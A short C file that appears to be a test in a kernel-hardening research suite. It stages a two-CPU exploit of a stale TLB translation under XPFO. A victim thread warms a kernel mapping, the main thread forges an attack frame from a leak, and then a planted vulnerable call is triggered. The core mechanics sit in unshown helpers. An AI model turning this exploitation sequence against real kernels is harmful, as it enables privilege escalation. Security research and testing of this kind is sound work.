/*
 * The stale translation of xpfo_stale_tlb, on a processor that meanwhile runs one thread and no
 * other.
 */
#include "attack.h"

enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_WARM = 1, STAGE_WARMED, STAGE_FORGED, STAGE_CALLED };

static attack_stage stage;
static struct attack_frame frame;

static void victim(void *unused)
{
	(void)unused;
	attack_await(&stage, STAGE_WARM, AWAIT_SPIN);
	attack_warm(frame.synonym);
	attack_tell(&stage, STAGE_WARMED);
	attack_await(&stage, STAGE_FORGED, AWAIT_SPIN);
	attack_check("vuln_call", bw_vuln_call(frame.synonym));
	attack_tell(&stage, STAGE_CALLED);
}

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
	attack_thread(CPU_OF_VICTIM, victim, NULL);

	attack_frame_find(&leak, &frame);
	attack_tell(&stage, STAGE_WARM);
	attack_await(&stage, STAGE_WARMED, AWAIT_SPIN);
	attack_say("CPU %d has read it at 0x%lx, and spins in user mode", CPU_OF_VICTIM,
		   frame.synonym);

	if (!attack_frame_forge(&leak, &frame)) {
		attack_skip("the next page came from elsewhere");
	}
	attack_tell(&stage, STAGE_FORGED);
	attack_await(&stage, STAGE_CALLED, AWAIT_SPIN);
	return attack_finish();
}
